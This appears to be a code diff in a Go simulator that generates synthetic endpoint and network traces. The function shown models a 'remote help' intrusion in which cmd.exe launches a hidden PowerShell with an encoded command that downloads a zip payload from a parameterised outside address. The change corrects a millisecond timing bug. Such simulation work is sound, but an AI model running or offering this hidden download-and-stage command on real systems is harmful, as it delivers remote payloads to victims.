@@ -23,5 +23,5 @@ func remoteHelp(e trace.Env, at int64, a Args) {
 	cmd := e.Start(dev, e.O.Image(dev, "cmd.exe"), d.Explorer.User, d.Explorer, at, `"C:\Windows\system32\cmd.exe" `)
 	at += e.R.Around(50*tick.Second, 20*tick.Second)
 	ps := e.Start(dev, e.O.Image(dev, "powershell.exe"), cmd.User, cmd, at, "powershell -nop -w hidden -enc "+life.Encode("iwr https://"+a.Address("from").IP+"/sp -OutFile $env:TEMP\\sp.zip"))
-	e.Connect(ps, at+e.R.Between(600, 2500)*tick.Millisecond, trace.Flow{LocalIP: d.IP, RemoteIP: a.Address("from").IP, Port: 443, URL: a.Address("from").IP, Site: d.Firewall(), Sent: e.R.Between(500, 900), Received: e.R.Between(1_800_000, 2_900_000)})
+	e.Connect(ps, at+e.R.Between(600*tick.Millisecond, 2500*tick.Millisecond), trace.Flow{LocalIP: d.IP, RemoteIP: a.Address("from").IP, Port: 443, URL: a.Address("from").IP, Site: d.Firewall(), Sent: e.R.Between(500, 900), Received: e.R.Between(1_800_000, 2_900_000)})
 }
